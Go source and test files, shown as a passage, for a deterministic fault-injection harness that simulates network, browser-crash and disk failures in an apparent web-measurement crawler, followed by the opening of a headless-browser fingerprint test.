		{fmt.Errorf("wrapped: %w", &FaultError{Kind: KindCrash}), ClassCrash},
	}
	for _, c := range cases {
		if got := Classify(c.err); got != c.want {
			t.Errorf("Classify(%v) = %v, want %v", c.err, got, c.want)
		}
	}
}

func TestFaultErrorAbortSemantics(t *testing.T) {
	for _, k := range []Kind{KindTransport, KindMalformed, KindTarpit} {
		if (&FaultError{Kind: k}).AbortsVisit() {
			t.Errorf("%s must not abort the visit", k)
		}
	}
	for _, k := range []Kind{KindHang, KindCrash} {
		if !(&FaultError{Kind: k}).AbortsVisit() {
			t.Errorf("%s must abort the visit", k)
		}
	}
}

func TestBucketSelection(t *testing.T) {
	p := Profile{Buckets: []Bucket{
		{MaxRank: 100, TransportPerMille: 1},
		{MaxRank: 1000, TransportPerMille: 2},
		{MaxRank: 0, TransportPerMille: 3},
	}}
	for rank, want := range map[int]int{1: 1, 100: 1, 101: 2, 1000: 2, 1001: 3, 0: 3} {
		if got := p.bucketFor(rank).TransportPerMille; got != want {
			t.Errorf("bucketFor(%d) = bucket %d, want %d", rank, got, want)
		}
	}
}

func TestTransientFaultRecoversAfterRetry(t *testing.T) {
	p := DefaultProfile()
	onlyKind(KindTransport, 1000, &p) // every request
	p.TransientRecoverAfter = 1
	in := NewInjector(7, p, &okTransport{})
	req := &httpsim.Request{URL: "https://a.example/x.js", TopURL: "https://a.example/", Type: httpsim.TypeScript}

	if _, err := in.RoundTrip(req); err == nil {
		t.Fatal("first attempt should fail")
	} else if Classify(err) != ClassTransient {
		t.Fatalf("wrong class: %v", err)
	}
	if resp, err := in.RoundTrip(req); err != nil || resp.Status != 200 {
		t.Fatalf("second attempt should recover: %v", err)
	}
}

func TestHangNeverRecoversWhenConfigured(t *testing.T) {
	p := DefaultProfile()
	onlyKind(KindHang, 1000, &p)
	p.HangRecoverAfter = 0 // never clears
	p.HangSeconds = 123
	in := NewInjector(7, p, &okTransport{})
	req := &httpsim.Request{URL: "https://a.example/", TopURL: "https://a.example/", Type: httpsim.TypeMainFrame}
	for i := 0; i < 3; i++ {
		_, err := in.RoundTrip(req)
		var fe *FaultError
		if !errors.As(err, &fe) || fe.Kind != KindHang {
			t.Fatalf("attempt %d: want hang, got %v", i, err)
		}
		if fe.VirtualCost() != 123 {
			t.Fatalf("hang cost = %v", fe.VirtualCost())
		}
	}
}

func TestCrashArmsOnMainFrameAndFiresOnSubresource(t *testing.T) {
	p := DefaultProfile()
	onlyKind(KindCrash, 1000, &p)
	p.CrashRecoverAfter = 1
	in := NewInjector(7, p, &okTransport{})
	main := &httpsim.Request{URL: "https://a.example/", TopURL: "https://a.example/", Type: httpsim.TypeMainFrame}
	if _, err := in.RoundTrip(main); err != nil {
		t.Fatalf("main document itself must load: %v", err)
	}
	// the crash fires within the next few subresource fetches
	crashed := false
	for i := 0; i < 5 && !crashed; i++ {
		sub := &httpsim.Request{URL: fmt.Sprintf("https://a.example/r%d.js", i), TopURL: "https://a.example/", Type: httpsim.TypeScript}
		if _, err := in.RoundTrip(sub); err != nil {
			if Classify(err) != ClassCrash {
				t.Fatalf("wrong class: %v", err)
			}
			crashed = true
		}
	}
	if !crashed {
		t.Fatal("armed crash never fired")
	}
	// retry: the crash has recovered, the full visit completes
	if _, err := in.RoundTrip(main); err != nil {
		t.Fatalf("retry main: %v", err)
	}
	for i := 0; i < 5; i++ {
		sub := &httpsim.Request{URL: fmt.Sprintf("https://a.example/r%d.js", i), TopURL: "https://a.example/", Type: httpsim.TypeScript}
		if _, err := in.RoundTrip(sub); err != nil {
			t.Fatalf("retry subresource %d: %v", i, err)
		}
	}
	if in.Counts()[KindCrash] != 1 {
		t.Fatalf("crash count = %d, want 1", in.Counts()[KindCrash])
	}
}

func TestTarpitDelaysResponse(t *testing.T) {
	p := DefaultProfile()
	onlyKind(KindTarpit, 1000, &p)
	p.TarpitSeconds = 45
	in := NewInjector(7, p, &okTransport{})
	req := &httpsim.Request{URL: "https://a.example/", TopURL: "https://a.example/", Type: httpsim.TypeMainFrame}
	resp, err := in.RoundTrip(req)
	if err != nil {
		t.Fatal(err)
	}
	if resp.DelaySeconds != 45 {
		t.Fatalf("DelaySeconds = %v, want 45", resp.DelaySeconds)
	}
}

func TestMalformedBodyTruncatedDeterministically(t *testing.T) {
	p := DefaultProfile()
	onlyKind(KindMalformed, 1000, &p)
	req := &httpsim.Request{URL: "https://a.example/x.js", TopURL: "https://a.example/", Type: httpsim.TypeScript}
	a, err := NewInjector(7, p, &okTransport{}).RoundTrip(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := NewInjector(7, p, &okTransport{}).RoundTrip(req)
	orig, _ := (&okTransport{}).RoundTrip(req)
	if a.Body == orig.Body {
		t.Fatal("body was not garbled")
	}
	if a.Body != b.Body {
		t.Fatalf("same seed produced different bodies: %q vs %q", a.Body, b.Body)
	}
	// the original response must not be mutated in place
	if orig2, _ := (&okTransport{}).RoundTrip(req); orig2.Body != orig.Body {
		t.Fatal("upstream response mutated")
	}
}

func TestStorageFaultDeterministic(t *testing.T) {
	p := DefaultProfile()
	p.StoragePerMille = 200
	seq := func() []bool {
		in := NewInjector(11, p, &okTransport{})
		var out []bool
		for i := 0; i < 200; i++ {
			out = append(out, in.StorageFault("javascript"))
		}
		return out
	}
	a, b := seq(), seq()
	drops := 0
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("storage fault sequence diverged at %d", i)
		}
		if a[i] {
			drops++
		}
	}
	if drops == 0 || drops == len(a) {
		t.Fatalf("implausible drop count %d/%d", drops, len(a))
	}
}

func TestInjectorDeterministicAcrossRuns(t *testing.T) {
	p := DefaultProfile()
	run := func() (string, map[Kind]int) {
		in := NewInjector(3, p, &okTransport{})
		trace := ""
		for site := 0; site < 40; site++ {
			top := fmt.Sprintf("https://site%d.example/", site)
			reqs := []*httpsim.Request{{URL: top, TopURL: top, Type: httpsim.TypeMainFrame}}
			for r := 0; r < 6; r++ {
				reqs = append(reqs, &httpsim.Request{URL: fmt.Sprintf("%sr%d.js", top, r), TopURL: top, Type: httpsim.TypeScript})
			}
			for _, req := range reqs {
				resp, err := in.RoundTrip(req)
				switch {
				case err != nil:
					trace += "E"
				case resp.DelaySeconds > 0:
					trace += "D"
				case len(resp.Body) != len("<html>page body content</html>"):
					trace += "M"
				default:
					trace += "."
				}
			}
		}
		return trace, in.Counts()
	}
	t1, c1 := run()
	t2, c2 := run()
	if t1 != t2 {
		t.Fatalf("fault traces differ:\n%s\n%s", t1, t2)
	}
	if fmt.Sprint(c1) != fmt.Sprint(c2) {
		t.Fatalf("counts differ: %v vs %v", c1, c2)
	}
	kinds := 0
	for _, n := range c1 {
		if n > 0 {
			kinds++
		}
	}
	if kinds < 2 {
		t.Fatalf("default profile injected only %d kinds over the trace: %v", kinds, c1)
	}
}
