// Package faults is a seeded, deterministic fault-injection harness for the
// measurement pipeline. It wraps any httpsim.RoundTripper and perturbs the
// traffic the way a real large-scale crawl is perturbed: transport resets,
// truncated bodies, tarpits (responses that arrive only after a long virtual
// delay), hangs that exhaust a visit budget, mid-visit browser crashes, and
// storage write failures. Every decision is a pure function of the fault
// seed and the request, so a crawl under faults is exactly reproducible —
// the property the paper demands of reliability experiments.
//
// The package also defines the error taxonomy the hardened framework layer
// (package openwpm) uses to decide between retrying, failing fast and
// salvaging partial results.
package faults

import (
	"errors"
	"fmt"
)

// Class is the recovery-relevant classification of a visit error.
type Class int

// Error classes, ordered roughly by severity.
const (
	ClassNone      Class = iota // no error
	ClassTransient              // retry is likely to succeed (connection reset, ...)
	ClassPermanent              // deterministic failure; retrying wastes budget
	ClassHang                   // the visit stalled until a watchdog gave up
	ClassCrash                  // the browser process died mid-visit
)

func (c Class) String() string {
	switch c {
	case ClassNone:
		return "none"
	case ClassTransient:
		return "transient"
	case ClassPermanent:
		return "permanent"
	case ClassHang:
		return "hang"
	case ClassCrash:
		return "crash"
	}
	return fmt.Sprintf("class(%d)", int(c))
}

// Classified is implemented by errors that know their own recovery class.
type Classified interface {
	FaultClass() Class
}

// Classify maps an error to its recovery class. Unknown errors default to
// transient: an unclassified failure on a live network is far more often a
// flake than a law of nature, and the retry budget bounds the cost of being
// wrong.
func Classify(err error) Class {
	if err == nil {
		return ClassNone
	}
	var c Classified
	if errors.As(err, &c) {
		return c.FaultClass()
	}
	return ClassTransient
}

// Kind enumerates the injectable fault kinds.
type Kind int

// Fault kinds.
const (
	KindTransport Kind = iota // transport-level error (reset, refused)
	KindMalformed             // truncated/garbled response body
	KindTarpit                // response delayed by many virtual seconds
	KindHang                  // request stalls until the watchdog fires
	KindCrash                 // browser dies mid-visit
	KindStorage               // storage write dropped
	numKinds
)

func (k Kind) String() string {
	switch k {
	case KindTransport:
		return "transport"
	case KindMalformed:
		return "malformed"
	case KindTarpit:
		return "tarpit"
	case KindHang:
		return "hang"
	case KindCrash:
		return "crash"
	case KindStorage:
		return "storage"
	}
	return fmt.Sprintf("kind(%d)", int(k))
}

// FaultError is an injected failure. It carries its recovery class, whether
// it kills the whole visit (crash/hang) and how much virtual time it burned
// before surfacing (a hang costs the full watchdog budget, a reset is
// near-instant).
type FaultError struct {
	Kind    Kind
	URL     string
	Seconds float64 // virtual time consumed before the error surfaced
}

func (e *FaultError) Error() string {
	return fmt.Sprintf("injected %s fault at %s", e.Kind, e.URL)
}

// FaultClass implements Classified.
func (e *FaultError) FaultClass() Class {
	switch e.Kind {
	case KindHang:
		return ClassHang
	case KindCrash:
		return ClassCrash
	default:
		return ClassTransient
	}
}

// AbortsVisit reports whether the fault kills the in-progress visit rather
// than just failing one subresource. The browser sniffs this interface so it
// need not import this package.
func (e *FaultError) AbortsVisit() bool {
	return e.Kind == KindCrash || e.Kind == KindHang
}

// VirtualCost reports the virtual seconds the failure consumed.
func (e *FaultError) VirtualCost() float64 { return e.Seconds }

// PermanentError marks a deterministic failure that must not be retried.
type PermanentError struct{ Reason string }

func (e *PermanentError) Error() string { return e.Reason }

// FaultClass implements Classified.
func (e *PermanentError) FaultClass() Class { return ClassPermanent }

// Permanentf builds a PermanentError.
func Permanentf(format string, args ...any) error {
	return &PermanentError{Reason: fmt.Sprintf(format, args...)}
}

// Bucket is the fault mix for one rank range. Real failure rates are not
// uniform over a toplist: tail sites are flakier than the head, so profiles
// are tables keyed by rank.
type Bucket struct {
	// MaxRank is the highest (1-based) rank this bucket covers, inclusive.
	// 0 means "all remaining ranks" (the tail bucket).
	MaxRank int

	// Per-mille probabilities, evaluated per request.
	TransportPerMille int
	MalformedPerMille int
	TarpitPerMille    int
	HangPerMille      int
	CrashPerMille     int
}

// Profile is a complete fault-injection configuration.
type Profile struct {
	// Buckets in ascending MaxRank order; the first matching bucket wins.
	Buckets []Bucket

	// TarpitSeconds is the virtual delay added to tarpitted responses.
	TarpitSeconds float64
	// HangSeconds is the virtual time a hang consumes before erroring.
	HangSeconds float64

	// StoragePerMille is the probability that one storage write is dropped.
	StoragePerMille int

	// Recovery horizons: how many failed attempts a faulted (site, URL) pair
	// endures before the fault clears and the request succeeds. 0 means the
	// fault never clears (a permanently dead resource).
	TransientRecoverAfter int
	HangRecoverAfter      int
	CrashRecoverAfter     int
}

// DefaultProfile is a realistic mix: a few percent of requests fail
// transiently, a smaller share of pages hang, tarpit or crash the browser,
// and roughly one storage write in 200 is lost. Most faults clear after one
// retry, so a hardened pipeline can recover nearly everything.
func DefaultProfile() Profile {
	return Profile{
		Buckets: []Bucket{
			{MaxRank: 1000, TransportPerMille: 25, MalformedPerMille: 15, TarpitPerMille: 10, HangPerMille: 5, CrashPerMille: 10},
			{MaxRank: 10000, TransportPerMille: 35, MalformedPerMille: 20, TarpitPerMille: 14, HangPerMille: 7, CrashPerMille: 13},
			{MaxRank: 0, TransportPerMille: 50, MalformedPerMille: 25, TarpitPerMille: 18, HangPerMille: 9, CrashPerMille: 16},
		},
		TarpitSeconds:         45,
		HangSeconds:           300,
		StoragePerMille:       5,
		TransientRecoverAfter: 1,
		HangRecoverAfter:      1,
		CrashRecoverAfter:     1,
	}
}

// HeavyProfile is a stress mix: roughly 4x the default rates with slower
// recovery, for worst-case reliability experiments.
func HeavyProfile() Profile {
	return Profile{
		Buckets: []Bucket{
			{MaxRank: 1000, TransportPerMille: 100, MalformedPerMille: 60, TarpitPerMille: 40, HangPerMille: 20, CrashPerMille: 40},
			{MaxRank: 0, TransportPerMille: 160, MalformedPerMille: 90, TarpitPerMille: 60, HangPerMille: 30, CrashPerMille: 60},
		},
		TarpitSeconds:         90,
		HangSeconds:           300,
		StoragePerMille:       20,
		TransientRecoverAfter: 2,
		HangRecoverAfter:      1,
		CrashRecoverAfter:     1,
	}
}

// bucketFor selects the fault mix for a rank (0 = unknown rank → tail).
func (p Profile) bucketFor(rank int) Bucket {
	var tail Bucket
	for _, b := range p.Buckets {
		if b.MaxRank == 0 {
			tail = b
			continue
		}
		if rank >= 1 && rank <= b.MaxRank {
			return b
		}
	}
	return tail
}
