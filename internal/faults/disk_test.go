package faults

import (
	"errors"
	"testing"
)

func TestDiskInjectorDeterminism(t *testing.T) {
	run := func() ([]int, []error) {
		d := NewDiskInjector(42, DefaultDiskProfile())
		var allows []int
		var errs []error
		for i := 0; i < 500; i++ {
			a, err := d.BeforeWrite("wal-000000.seg", 100)
			allows = append(allows, a)
			errs = append(errs, err)
		}
		return allows, errs
	}
	a1, e1 := run()
	a2, e2 := run()
	for i := range a1 {
		if a1[i] != a2[i] || (e1[i] == nil) != (e2[i] == nil) {
			t.Fatalf("decision %d differs between identical runs", i)
		}
	}
}

func TestDiskInjectorENOSPCBudget(t *testing.T) {
	d := NewDiskInjector(1, DiskProfile{ByteBudget: 250})
	total := 0
	for i := 0; i < 10; i++ {
		allow, err := d.BeforeWrite("seg", 100)
		total += allow
		if total > 250 {
			t.Fatalf("injector allowed %d bytes past a 250-byte budget", total)
		}
		if err != nil {
			var de *DiskError
			if !errors.As(err, &de) || de.Kind != DiskENOSPC {
				t.Fatalf("budget exhaustion returned %v, want ENOSPC", err)
			}
			if de.FaultClass() != ClassPermanent {
				t.Fatal("ENOSPC must classify as permanent")
			}
		}
	}
	if total != 250 {
		t.Fatalf("device accepted %d bytes, budget is exactly 250 (partial last write must land)", total)
	}
	if d.Counts()[DiskENOSPC] == 0 {
		t.Fatal("ENOSPC faults not counted")
	}
}

func TestDiskInjectorShortWriteBounds(t *testing.T) {
	d := NewDiskInjector(7, DiskProfile{ShortWritePerMille: 1000})
	for i := 0; i < 100; i++ {
		allow, err := d.BeforeWrite("seg", 64)
		if err == nil {
			t.Fatal("every write should tear at 1000 per mille")
		}
		var de *DiskError
		if !errors.As(err, &de) || de.Kind != DiskShortWrite {
			t.Fatalf("got %v, want short-write", err)
		}
		if de.FaultClass() != ClassTransient {
			t.Fatal("short write must classify as transient")
		}
		if allow < 0 || allow >= 64 {
			t.Fatalf("torn write allows %d of 64 bytes, want a strict prefix", allow)
		}
	}
}

func TestDiskInjectorLatencyAccumulatesVirtualTime(t *testing.T) {
	d := NewDiskInjector(3, DiskProfile{WriteLatencyPerMille: 1000, LatencyMS: 250})
	for i := 0; i < 4; i++ {
		if _, err := d.BeforeWrite("seg", 10); err != nil {
			t.Fatalf("latency must not fail the write: %v", err)
		}
	}
	if got := d.StallMS(); got != 1000 {
		t.Fatalf("4 slow writes at 250ms accumulate %gms, want 1000", got)
	}
	if d.Counts()[DiskWriteLatency] != 4 {
		t.Fatal("latency faults not counted")
	}
}

func TestDiskInjectorNilIsTransparent(t *testing.T) {
	var d *DiskInjector
	allow, err := d.BeforeWrite("seg", 10)
	if allow != 10 || err != nil {
		t.Fatalf("nil injector must pass writes through, got (%d, %v)", allow, err)
	}
	if err := d.OnSync("seg"); err != nil {
		t.Fatalf("nil injector must pass syncs through: %v", err)
	}
}
