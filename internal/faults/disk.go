package faults

import (
	"fmt"
	"sync"

	"gullible/internal/telemetry"
)

// DiskKind enumerates the injectable disk fault kinds — the failure modes a
// durable storage backend must survive without corrupting committed records.
type DiskKind int

// Disk fault kinds.
const (
	DiskShortWrite   DiskKind = iota // only a prefix of the write persists (torn write)
	DiskFsyncFail                    // fsync reports failure; durability of recent writes is unknown
	DiskENOSPC                       // the device is full; writes fail until space frees
	DiskWriteLatency                 // the write completes but stalls (counted, not timed — the repo runs on virtual time)
	numDiskKinds
)

func (k DiskKind) String() string {
	switch k {
	case DiskShortWrite:
		return "short-write"
	case DiskFsyncFail:
		return "fsync-fail"
	case DiskENOSPC:
		return "enospc"
	case DiskWriteLatency:
		return "write-latency"
	}
	return fmt.Sprintf("disk-kind(%d)", int(k))
}

// DiskError is an injected disk failure.
type DiskError struct {
	Kind DiskKind
	Name string // file the operation targeted
}

func (e *DiskError) Error() string {
	return fmt.Sprintf("injected %s disk fault on %s", e.Kind, e.Name)
}

// FaultClass implements Classified: ENOSPC is deterministic until space
// frees, everything else may clear on retry.
func (e *DiskError) FaultClass() Class {
	if e.Kind == DiskENOSPC {
		return ClassPermanent
	}
	return ClassTransient
}

// DiskProfile configures disk fault injection.
type DiskProfile struct {
	// Per-mille probabilities, evaluated per write (or per sync).
	ShortWritePerMille   int
	FsyncFailPerMille    int
	WriteLatencyPerMille int

	// LatencyMS is the virtual stall one slow write accumulates.
	LatencyMS float64

	// ByteBudget caps the total bytes the device accepts; once exhausted
	// every write fails with ENOSPC (0 = unlimited). Partial last writes
	// persist a prefix, like a real full disk.
	ByteBudget int64
}

// DefaultDiskProfile is a modest failure mix for soak tests: occasional torn
// writes and fsync failures, no byte budget.
func DefaultDiskProfile() DiskProfile {
	return DiskProfile{
		ShortWritePerMille:   10,
		FsyncFailPerMille:    5,
		WriteLatencyPerMille: 20,
		LatencyMS:            250,
	}
}

// DiskInjector is the decision layer for disk fault injection. The WAL's
// io-level shim consults it before every write and sync; every decision is a
// pure function of (seed, write sequence), so a faulted crawl is exactly
// reproducible. The injector never touches files itself — keeping it io-free
// lets package wal own the shim without an import cycle.
type DiskInjector struct {
	Seed    int64
	Profile DiskProfile

	mu      sync.Mutex
	seq     int   // global write sequence, the hash salt
	written int64 // bytes accepted so far, for the ENOSPC budget
	stallMS float64
	counts  map[DiskKind]int

	tel        *telemetry.Telemetry
	kindMeters [numDiskKinds]*telemetry.Counter
}

// NewDiskInjector returns a seeded disk fault injector.
func NewDiskInjector(seed int64, p DiskProfile) *DiskInjector {
	return &DiskInjector{Seed: seed, Profile: p, counts: map[DiskKind]int{}}
}

// SetTelemetry wires the injector into a telemetry registry
// (disk_faults_total{kind=...} plus a disk-fault event per injection).
func (d *DiskInjector) SetTelemetry(tel *telemetry.Telemetry) {
	if !tel.Enabled() {
		return
	}
	d.tel = tel
	for k := DiskKind(0); k < numDiskKinds; k++ {
		d.kindMeters[k] = tel.Counter("disk_faults_total", telemetry.L("kind", k.String()))
	}
}

// tally records one injected disk fault (caller holds d.mu).
func (d *DiskInjector) tally(k DiskKind, name string) {
	d.counts[k]++
	d.kindMeters[k].Inc()
	if d.tel.Enabled() {
		d.tel.Event(telemetry.LevelWarn, "disk-fault", 0,
			telemetry.L("kind", k.String()), telemetry.L("file", name))
	}
}

// BeforeWrite decides the fate of one n-byte write to name. It returns how
// many bytes the store should persist and a non-nil error when the write
// must fail: allow < n with an error is a short/torn write, allow possibly
// zero with an ENOSPC error is a full device. allow == n with a nil error is
// the normal path.
func (d *DiskInjector) BeforeWrite(name string, n int) (allow int, err error) {
	if d == nil {
		return n, nil
	}
	d.mu.Lock()
	defer d.mu.Unlock()
	d.seq++
	p := d.Profile
	if p.WriteLatencyPerMille > 0 && fnvHash(d.Seed, "disk-latency", d.seq)%1000 < uint64(p.WriteLatencyPerMille) {
		d.stallMS += p.LatencyMS
		d.tally(DiskWriteLatency, name)
	}
	if p.ByteBudget > 0 && d.written+int64(n) > p.ByteBudget {
		allow = int(p.ByteBudget - d.written)
		if allow < 0 {
			allow = 0
		}
		d.written = p.ByteBudget
		d.tally(DiskENOSPC, name)
		return allow, &DiskError{Kind: DiskENOSPC, Name: name}
	}
	if p.ShortWritePerMille > 0 && n > 0 && fnvHash(d.Seed, "disk-short", d.seq)%1000 < uint64(p.ShortWritePerMille) {
		allow = int(fnvHash(d.Seed, "disk-cut", d.seq) % uint64(n))
		d.written += int64(allow)
		d.tally(DiskShortWrite, name)
		return allow, &DiskError{Kind: DiskShortWrite, Name: name}
	}
	d.written += int64(n)
	return n, nil
}

// OnSync decides whether one fsync of name fails.
func (d *DiskInjector) OnSync(name string) error {
	if d == nil {
		return nil
	}
	d.mu.Lock()
	defer d.mu.Unlock()
	d.seq++
	if p := d.Profile.FsyncFailPerMille; p > 0 && fnvHash(d.Seed, "disk-fsync", d.seq)%1000 < uint64(p) {
		d.tally(DiskFsyncFail, name)
		return &DiskError{Kind: DiskFsyncFail, Name: name}
	}
	return nil
}

// StallMS is the virtual time slow writes have accumulated.
func (d *DiskInjector) StallMS() float64 {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.stallMS
}

// Counts returns how many disk faults of each kind have been injected.
func (d *DiskInjector) Counts() map[DiskKind]int {
	d.mu.Lock()
	defer d.mu.Unlock()
	out := make(map[DiskKind]int, len(d.counts))
	for k, n := range d.counts {
		out[k] = n
	}
	return out
}

// CountsByName is Counts keyed by kind name (for reports).
func (d *DiskInjector) CountsByName() map[string]int {
	out := map[string]int{}
	for k, n := range d.Counts() {
		out[k.String()] = n
	}
	return out
}
