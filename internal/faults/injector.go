package faults

import (
	"sync"

	"gullible/internal/httpsim"
	"gullible/internal/telemetry"
)

// Injector wraps a RoundTripper and injects faults per the profile. All
// decisions derive from hashing (seed, visited site, URL, kind), so the same
// seed over the same request sequence injects exactly the same faults —
// independently of wall-clock time or scheduling.
//
// An Injector is safe for concurrent use, but fault *sequencing* (recovery
// counters, storage drops) is deterministic only when the request order is;
// sharded crawls should use one Injector per worker.
type Injector struct {
	Seed    int64
	Profile Profile
	Next    httpsim.RoundTripper

	// RankOf maps a URL to its toplist rank for bucket selection (0 =
	// unknown). Nil sends everything to the tail bucket.
	RankOf func(url string) int

	mu           sync.Mutex
	attempts     map[string]int // failed attempts per faulted decision key
	hangAttempts map[string]int
	armed        map[string]int // top URL → requests until the crash fires
	crashes      map[string]int // top URL → crashes already fired
	counts       map[Kind]int
	storageSeq   map[string]int // table → write sequence number
	tel          *telemetry.Telemetry
	kindMeters   [numKinds]*telemetry.Counter
}

// SetTelemetry wires the injector into a telemetry registry: one counter per
// fault kind (faults_injected_total{kind=...}) plus a fault-inject event per
// injection. Call before crawling; nil leaves telemetry off.
func (in *Injector) SetTelemetry(tel *telemetry.Telemetry) {
	if !tel.Enabled() {
		return
	}
	in.tel = tel
	for k := Kind(0); k < numKinds; k++ {
		in.kindMeters[k] = tel.Counter("faults_injected_total", telemetry.L("kind", k.String()))
	}
}

// tally records one injected fault in the telemetry layer. The counters are
// nil-safe, so the disabled path is a nil check; the event is guarded because
// it builds labels.
func (in *Injector) tally(k Kind, url string, atMS float64) {
	in.kindMeters[k].Inc()
	if in.tel.Enabled() {
		in.tel.Event(telemetry.LevelWarn, "fault-inject", atMS,
			telemetry.L("kind", k.String()), telemetry.L("url", url))
	}
}

// NewInjector wraps next with a seeded fault injector.
func NewInjector(seed int64, p Profile, next httpsim.RoundTripper) *Injector {
	return &Injector{
		Seed:         seed,
		Profile:      p,
		Next:         next,
		attempts:     map[string]int{},
		hangAttempts: map[string]int{},
		armed:        map[string]int{},
		crashes:      map[string]int{},
		counts:       map[Kind]int{},
		storageSeq:   map[string]int{},
	}
}

// key scopes fault decisions to (URL, visiting site): a flaky third-party
// resource misbehaves on some sites, not everywhere at once.
func key(req *httpsim.Request) string { return req.URL + "\x00" + req.TopURL }

// roll is the deterministic per-mille dice roll for one fault kind.
func (in *Injector) roll(k, salt string, perMille int) bool {
	if perMille <= 0 {
		return false
	}
	return fnvHash(in.Seed, salt, k)%1000 < uint64(perMille)
}

func (in *Injector) rank(req *httpsim.Request) int {
	if in.RankOf == nil {
		return 0
	}
	if r := in.RankOf(req.TopURL); r != 0 {
		return r
	}
	return in.RankOf(req.URL)
}

// RoundTrip implements httpsim.RoundTripper.
func (in *Injector) RoundTrip(req *httpsim.Request) (*httpsim.Response, error) {
	b := in.Profile.bucketFor(in.rank(req))
	k := key(req)

	in.mu.Lock()
	// A previously armed crash fires on the n-th subresource of the visit.
	if n, ok := in.armed[req.TopURL]; ok && req.Type != httpsim.TypeMainFrame {
		n--
		if n <= 0 {
			delete(in.armed, req.TopURL)
			in.crashes[req.TopURL]++
			in.counts[KindCrash]++
			in.mu.Unlock()
			in.tally(KindCrash, req.URL, req.Time)
			return nil, &FaultError{Kind: KindCrash, URL: req.URL}
		}
		in.armed[req.TopURL] = n
	}

	// Hang: the request never completes; the caller's watchdog eats the
	// budget and gives up.
	if in.roll(k, "hang", b.HangPerMille) {
		in.hangAttempts[k]++
		if in.Profile.HangRecoverAfter == 0 || in.hangAttempts[k] <= in.Profile.HangRecoverAfter {
			in.counts[KindHang]++
			in.mu.Unlock()
			in.tally(KindHang, req.URL, req.Time)
			return nil, &FaultError{Kind: KindHang, URL: req.URL, Seconds: in.Profile.HangSeconds}
		}
	}

	// Transport error: connection reset; recovers after a few attempts.
	if in.roll(k, "transport", b.TransportPerMille) {
		in.attempts[k]++
		if in.Profile.TransientRecoverAfter == 0 || in.attempts[k] <= in.Profile.TransientRecoverAfter {
			in.counts[KindTransport]++
			in.mu.Unlock()
			in.tally(KindTransport, req.URL, req.Time)
			return nil, &FaultError{Kind: KindTransport, URL: req.URL}
		}
	}

	// Crash-prone pages arm on the main document; the crash then fires a
	// few requests into the visit, after some records were already captured
	// (which is what makes partial-result salvage worth testing).
	if req.Type == httpsim.TypeMainFrame && in.roll(k, "crash", b.CrashPerMille) {
		if in.Profile.CrashRecoverAfter == 0 || in.crashes[req.URL] < in.Profile.CrashRecoverAfter {
			in.armed[req.URL] = 1 + int(fnvHash(in.Seed, "crashat", k)%3)
		}
	}
	in.mu.Unlock()

	resp, err := in.Next.RoundTrip(req)
	if err != nil || resp == nil {
		return resp, err
	}

	// Tarpit: the response arrives, but only after a long virtual delay.
	if in.roll(k, "tarpit", b.TarpitPerMille) {
		slowed := *resp
		slowed.DelaySeconds += in.Profile.TarpitSeconds
		resp = &slowed
		in.bump(KindTarpit)
		in.tally(KindTarpit, req.URL, req.Time)
	}

	// Malformed body: truncate and garble successful payloads.
	if resp.Status == 200 && len(resp.Body) > 0 && in.roll(k, "malformed", b.MalformedPerMille) {
		garbled := *resp
		cut := len(resp.Body) * int(1+fnvHash(in.Seed, "cut", k)%7) / 8
		garbled.Body = resp.Body[:cut] + "\x00\x1f<truncated"
		resp = &garbled
		in.bump(KindMalformed)
		in.tally(KindMalformed, req.URL, req.Time)
	}
	return resp, nil
}

// StorageFault decides whether the n-th write to a storage table is lost.
// Package openwpm sniffs this method off the transport to wire storage-layer
// faults without importing this package.
func (in *Injector) StorageFault(table string) bool {
	if in.Profile.StoragePerMille <= 0 {
		return false
	}
	in.mu.Lock()
	defer in.mu.Unlock()
	in.storageSeq[table]++
	hit := fnvHash(in.Seed, "storage", table, in.storageSeq[table])%1000 < uint64(in.Profile.StoragePerMille)
	if hit {
		in.counts[KindStorage]++
		in.tally(KindStorage, table, 0)
	}
	return hit
}

func (in *Injector) bump(k Kind) {
	in.mu.Lock()
	in.counts[k]++
	in.mu.Unlock()
}

// Counts returns how many faults of each kind have been injected.
func (in *Injector) Counts() map[Kind]int {
	in.mu.Lock()
	defer in.mu.Unlock()
	out := make(map[Kind]int, len(in.counts))
	for k, n := range in.counts {
		out[k] = n
	}
	return out
}

// CountsByName is Counts keyed by kind name (for reports).
func (in *Injector) CountsByName() map[string]int {
	out := map[string]int{}
	for k, n := range in.Counts() {
		out[k.String()] = n
	}
	return out
}

// KindsInjected reports how many distinct fault kinds have fired.
func (in *Injector) KindsInjected() int {
	n := 0
	for _, c := range in.Counts() {
		if c > 0 {
			n++
		}
	}
	return n
}

// fnvHash hashes mixed parts with FNV-1a (same scheme as websim's seeds).
func fnvHash(parts ...any) uint64 {
	h := uint64(14695981039346656037)
	mix := func(s string) {
		for i := 0; i < len(s); i++ {
			h = (h ^ uint64(s[i])) * 1099511628211
		}
		h = (h ^ 0x2b) * 1099511628211
	}
	for _, p := range parts {
		mix(stringify(p))
	}
	return h
}

func stringify(p any) string {
	switch v := p.(type) {
	case string:
		return v
	case int:
		return itoa(int64(v))
	case int64:
		return itoa(v)
	case uint64:
		return itoa(int64(v))
	}
	return ""
}

func itoa(n int64) string {
	if n == 0 {
		return "0"
	}
	neg := n < 0
	if neg {
		n = -n
	}
	var buf [24]byte
	i := len(buf)
	for n > 0 {
		i--
		buf[i] = byte('0' + n%10)
		n /= 10
	}
	if neg {
		i--
		buf[i] = '-'
	}
	return string(buf[i:])
}
