package fingerprint

import (
	"strings"
	"testing"

	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
	"gullible/internal/stealth"
)

func plainClient(os jsdom.OS, mode jsdom.Mode) *jsdom.DOM {
	return jsdom.Build(jsdom.StandardConfig(os, mode, 90, 0), &jsdom.NopHost{}, "https://probe.test/")
}

func baselineClient(os jsdom.OS) *jsdom.DOM {
	return jsdom.Build(jsdom.BaselineConfig(os, 90), &jsdom.NopHost{}, "https://probe.test/")
}

func TestTable2SurfacePerMode(t *testing.T) {
	cases := []struct {
		os           jsdom.OS
		mode         jsdom.Mode
		webgl        int
		langs        int
		fontDeviates bool
		timezoneZero bool
	}{
		{jsdom.MacOS, jsdom.Regular, 0, 0, false, false},
		{jsdom.MacOS, jsdom.Headless, 2037, 43, false, false},
		{jsdom.Ubuntu, jsdom.Regular, 0, 0, false, false},
